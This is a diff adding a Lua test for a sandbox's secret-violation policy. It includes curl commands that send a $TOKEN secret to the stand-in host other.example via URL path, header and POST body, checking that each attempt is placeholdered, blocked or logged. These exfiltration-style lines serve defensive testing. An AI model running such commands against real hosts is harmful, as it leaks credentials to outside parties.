@@ -264,6 +264,25 @@ describe("a secret", function()
     assert.equal(want, result.out, result.err)
   end)
 
+  it("that goes where it may not is the policy's to judge", function()
+    local asked = policy():gsub("secrets = {", [[on_secret_violation = function(v)
+    if v.host ~= "other.example" or v.secret ~= "TOKEN" then error "unexpected" end
+    if v.place == "path" then return "pass-placeholder" end
+    return v.method == "POST" and "block" or "block-and-log"
+  end, secrets = {]], 1)
+    local result = run(([[
+      %s -o /dev/null -w '%%{http_code} ' "https://other.example:4432/$TOKEN"
+      %s -o /dev/null -w '%%{http_code} ' -H "X: $TOKEN" https://other.example:4432/
+      %s -o /dev/null -w '%%{http_code}' -H "X: $TOKEN" -d x https://other.example:4432/]]):format(CURL, CURL, CURL),
+      { policy = asked })
+    assert.equal("200 403 000", result.out, result.err)
+    local sent = recorded(4432)
+    assert.equal(1, occurrences(sent, "LUNETTE_TOKEN"), sent)
+    for _, done in ipairs { "pass-placeholder", "block-and-log", "block" } do
+      assert.equal(1, lab.count_events(result.events, { kind = "secret_violation", reason = done }), done)
+    end
+  end)
+
   it("that goes where it may not may end the sandbox", function()
     local strict = policy():gsub("secrets = {", "on_secret_violation = 'block-and-terminate', secrets = {", 1)
     local result = run(CURL .. "-d \"$TOKEN\" https://other.example:4432/; sleep 5; echo still here",
